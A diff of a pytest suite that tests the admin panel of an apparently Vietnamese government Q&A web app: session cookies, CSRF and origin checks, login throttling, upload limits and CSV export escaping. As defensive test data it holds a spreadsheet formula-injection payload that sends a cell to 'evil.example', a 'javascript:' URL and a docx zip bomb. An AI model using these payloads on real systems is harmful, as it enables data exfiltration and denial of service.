@@ -1,16 +1,24 @@
 """Staff admin: never open by default, token login, uploads (good, bad, hostile), removal, statistics."""
 import csv
+import hashlib
 import io
+import os
+import re
+import sqlite3
+import subprocess
+import sys
+import time
 
 import pytest
 from fastapi.testclient import TestClient
+from pydantic import ValidationError
 
-from channels.web import admin
 from channels.web.app import create_app
 from hoidap.config import Settings
 from hoidap.wiring import open_hoidap
+from test_loaders import docx_bomb
 
-TOKEN = "bi-mat-cua-so"
+TOKEN = "bi-mat-cua-so-tu-phap"
 DOC = """KẾ HOẠCH
 Triển khai thử nghiệm trợ lý số cho xã Bình Minh
 
@@ -19,8 +27,9 @@ I. MỤC ĐÍCH
 """
 
 
-def make_client(tmp_path, token=TOKEN) -> TestClient:
-    settings = Settings(data_dir=tmp_path / "data", embedder="none", admin_token=token, rate_limit_per_minute=1000)
+def make_client(tmp_path, token=TOKEN, **overrides) -> TestClient:
+    settings = Settings(data_dir=tmp_path / "data", embedder="none", admin_token=token, rate_limit_per_minute=1000,
+                        **overrides)
     return TestClient(create_app(open_hoidap(settings)))
 
 
@@ -43,7 +52,18 @@ def test_admin_is_disabled_without_token(tmp_path):
     assert upload(client, "a.txt", DOC.encode()).status_code == 404
 
 
-def test_login_sets_httponly_cookie(tmp_path):
+def csrf_of(page: str) -> str:
+    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)
+
+
+def log_in(client) -> str:
+    """Log in through the form; returns the CSRF token the admin pages carry."""
+    r = client.post("/admin/login", data={"token": TOKEN}, follow_redirects=False)
+    assert r.status_code == 303
+    return csrf_of(client.get("/admin").text)
+
+
+def test_login_sets_a_random_httponly_session_cookie(tmp_path):
     client = make_client(tmp_path)
     assert client.get("/admin", headers={"accept": "text/html"}, follow_redirects=False).headers["location"] == "/admin/login"
     assert client.post("/admin/documents", files={"file": ("a.txt", b"x")}).status_code == 401
@@ -53,10 +73,85 @@ def test_login_sets_httponly_cookie(tmp_path):
     r = client.post("/admin/login", data={"token": TOKEN}, follow_redirects=False)
     assert r.status_code == 303
     cookie = r.headers["set-cookie"]
-    assert "HttpOnly" in cookie and "SameSite=strict" in cookie and TOKEN not in cookie
+    assert "HttpOnly" in cookie and "SameSite=strict" in cookie and TOKEN not in cookie and "Secure" not in cookie
+    assert hashlib.sha256(f"hoidap-admin:{TOKEN}".encode()).hexdigest() not in cookie
     assert client.get("/admin").status_code == 200
-    client.post("/admin/logout")
-    assert client.get("/admin", follow_redirects=False).status_code == 401
+    first = client.cookies["hoidap_admin"]
+    client.cookies.clear()
+    client.post("/admin/login", data={"token": TOKEN})
+    assert client.cookies["hoidap_admin"] != first  # a new random id for every login
+
+
+def test_old_cookie_is_refused_after_logout(tmp_path):
+    client = make_client(tmp_path)
+    csrf = log_in(client)
+    cookie = client.cookies["hoidap_admin"]
+    assert client.post("/admin/logout", data={"csrf": csrf}, follow_redirects=False).status_code == 303
+    client.cookies.set("hoidap_admin", cookie, path="/admin")  # as if someone kept a copy
+    assert client.get("/admin").status_code == 401
+    assert client.post("/admin/curated", data={"csrf": csrf, "question": "Hỏi?", "answer": "Đáp."}).status_code == 401
+
+
+def test_sessions_expire_and_survive_restart(tmp_path):
+    client = make_client(tmp_path)
+    log_in(client)
+    restarted = make_client(tmp_path)
+    restarted.cookies = client.cookies
+    assert restarted.get("/admin").status_code == 200  # stored server-side, not in process memory
+    with sqlite3.connect(tmp_path / "data" / "hoidap.sqlite") as db:
+        db.execute("UPDATE admin_sessions SET expires_at = 0")
+    assert restarted.get("/admin").status_code == 401
+
+
+def test_secure_cookie_when_the_public_url_is_https(tmp_path):
+    client = make_client(tmp_path, public_url="https://hoidap.stp.example.gov.vn")
+    r = client.post("/admin/login", data={"token": TOKEN}, follow_redirects=False)
+    assert "Secure" in r.headers["set-cookie"]
+
+
+def test_forms_need_the_csrf_token_and_the_same_origin(tmp_path):
+    client = make_client(tmp_path)
+    csrf = log_in(client)
+    item = {"question": "Giờ tiếp dân của Sở?", "answer": "Sáng thứ Hai.", "source": "Văn phòng Sở"}
+    r = client.post("/admin/curated", data=item, headers={"Origin": "https://evil.example"})
+    assert r.status_code == 403 and "trang web khác" in r.text
+    r = client.post("/admin/curated", data={**item, "csrf": csrf}, headers={"Origin": "https://evil.example"})
+    assert r.status_code == 403  # even with the token
+    r = client.post("/admin/curated", data={**item, "csrf": csrf}, headers={"Sec-Fetch-Site": "cross-site"})
+    assert r.status_code == 403
+    assert client.post("/admin/curated", data=item).status_code == 403  # no token
+    assert client.post("/admin/curated", data={**item, "csrf": "doan-bua"}).status_code == 403
+    assert client.post("/admin/login", data={"token": TOKEN}, headers={"Origin": "https://evil.example"}).status_code == 403
+    assert client.app.state.hoidap.answerer.curated.list() == []
+    r = client.post("/admin/curated", data={**item, "csrf": csrf}, headers={"Origin": "http://testserver"})
+    assert r.status_code == 200 and "Đã thêm" in r.text
+    for page in ["/admin", "/admin/curated", f"/admin/documents/{client.get('/api/documents').json()[0]['id']}/delete"]:
+        forms = re.findall(r"<form method=\"post\".*?</form>", client.get(page).text, re.S)
+        assert forms and all(f'name="csrf" value="{csrf}"' in form for form in forms), page
+
+
+def test_wrong_tokens_are_throttled_on_every_path(tmp_path):
+    client = make_client(tmp_path)
+    codes = [client.get("/admin", headers={"Authorization": f"Bearer sai-{i}"}).status_code for i in range(8)]
+    assert codes == [401] * 5 + [429] * 3
+    r = client.get("/admin", headers={"Authorization": f"Bearer {TOKEN}"})  # even the right one, for a minute
+    assert r.status_code == 429 and "chờ một phút" in r.json()["detail"] and r.headers["retry-after"] == "60"
+    assert client.post("/admin/login", data={"token": TOKEN}).status_code == 429
+    form_client = make_client(tmp_path / "form")
+    codes = [form_client.post("/admin/login", data={"token": f"sai-{i}"}).status_code for i in range(6)]
+    assert codes == [401] * 5 + [429]
+    assert form_client.get("/admin", headers={"Authorization": "Bearer x"}).status_code == 429
+
+
+def test_short_admin_tokens_are_refused_at_start_up(tmp_path):
+    with pytest.raises(ValidationError, match="ít nhất 16 ký tự"):
+        Settings(admin_token="ngan-qua")
+    env = {**os.environ, "HOIDAP_ADMIN_TOKEN": "ngan-qua", "HOIDAP_DATA_DIR": str(tmp_path),
+           "PYTHONPATH": os.pathsep.join(sys.path)}
+    done = subprocess.run([sys.executable, "-m", "hoidap.cli", "serve", "--port", "1"], cwd=tmp_path, env=env,
+                          capture_output=True, text=True, timeout=60)
+    assert done.returncode == 2 and "Lỗi cấu hình: HOIDAP_ADMIN_TOKEN quá ngắn (8 ký tự)" in done.stderr
+    assert "Traceback" not in done.stderr
 
 
 def test_upload_with_metadata_then_answer_then_remove(client):
@@ -78,7 +173,7 @@ def test_upload_with_metadata_then_answer_then_remove(client):
     assert not list((data_dir / "uploads").iterdir()) and not (data_dir / "files" / "ke-hoach-binh-minh.txt").exists()
 
 
-def test_upload_rejects_bad_files_clearly(client, monkeypatch):
+def test_upload_rejects_bad_files_clearly(client):
     r = upload(client, "virus.exe", b"MZ\x90\x00")
     assert r.status_code == 415 and "Định dạng không hỗ trợ" in r.text
     r = upload(client, "hong.pdf", b"%PDF-1.4 not really a pdf")
@@ -87,11 +182,36 @@ def test_upload_rejects_bad_files_clearly(client, monkeypatch):
     assert r.status_code == 400
     r = upload(client, "a.txt", DOC.encode(), source_url="javascript:alert(1)")
     assert r.status_code == 400 and "http" in r.text
-    monkeypatch.setattr(admin, "MAX_UPLOAD_BYTES", 1000)
+    r = upload(client, "a.txt", DOC.encode(), date_iso="2026-13-01")
+    assert r.status_code == 400 and "Ngày ban hành không hợp lệ" in r.text and "month" not in r.text
+
+
+def test_upload_size_is_capped(tmp_path):
+    client = make_client(tmp_path, max_upload_bytes=1000)
+    client.headers["Authorization"] = f"Bearer {TOKEN}"
     r = upload(client, "to.txt", b"a" * 2000)
-    assert r.status_code == 413 and "Tệp quá lớn" in r.text
-    r = upload(client, "rat-to.txt", b"a" * 200_000)  # refused from Content-Length, before parsing
-    assert r.status_code == 413
+    assert r.status_code == 413 and "Tệp quá lớn (tối đa" in r.text
+    r = upload(client, "rat-to.txt", b"a" * 200_000)  # refused by the body cap, before parsing
+    assert r.status_code == 413 and r.json() == {"detail": "Nội dung gửi lên quá lớn."}
+
+
+def test_docx_bomb_upload_is_refused_quickly(client, tmp_path):
+    bomb = docx_bomb(tmp_path / "bom.docx").read_bytes()
+    started = time.monotonic()
+    r = upload(client, "bom.docx", bomb)
+    assert r.status_code == 400 and "giải nén ra 200 MB, vượt giới hạn 60 MB" in r.text
+    assert time.monotonic() - started < 5
+    assert not list((client.app.state.hoidap.settings.data_dir / "uploads").glob("bom*"))
+
+
+def test_a_crash_mid_upload_leaves_no_orphan_file(tmp_path):
+    client = make_client(tmp_path)
+    client.headers["Authorization"] = f"Bearer {TOKEN}"
+    assert upload(client, "giu-lai.txt", DOC.encode()).status_code == 200
+    uploads = tmp_path / "data" / "uploads"
+    (uploads / "do-dang.txt").write_bytes(DOC.encode())  # written, then the process was killed before ingest ended
+    make_client(tmp_path)  # the next start
+    assert sorted(p.name for p in uploads.iterdir()) == ["giu-lai.txt"]
 
 
 def test_upload_path_tricks_stay_inside_uploads(client):
@@ -132,6 +252,23 @@ def test_statistics_page_and_csv_exports(client):
     assert feedback[1][1] == "👎" and "0912345678" not in feedback[1][2]
     assert client.get("/admin/stats.csv?kind=khac").status_code == 400
     assert client.get("/admin/stats?start=2026-13-01").status_code == 400
+
+
+def test_csv_cells_cannot_become_formulas(client):
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+    for comment in ["+1 ý kiến", "-2+3", "@SUM(1+1)", "bình thường"]:
+        answer = client.post("/api/ask", json={"question": attack}).json()
+        r = client.post("/api/feedback", json={"answer_id": answer["answer_id"], "rating": 1, "comment": comment})
+        assert r.status_code == 200
+
+    def cells(kind):
+        text = client.get(f"/admin/stats.csv?kind={kind}").text.lstrip("\ufeff")
+        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+    assert "'" + attack.lower() in cells("unanswered") and attack.lower() not in cells("unanswered")
+    comments = cells("feedback")
+    assert {"'+1 ý kiến", "'-2+3", "'@SUM(1+1)", "bình thường"} <= set(comments)
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in comments + cells("unanswered"))
 
 
 def test_curated_answers_are_managed_and_answer_citizens(client):
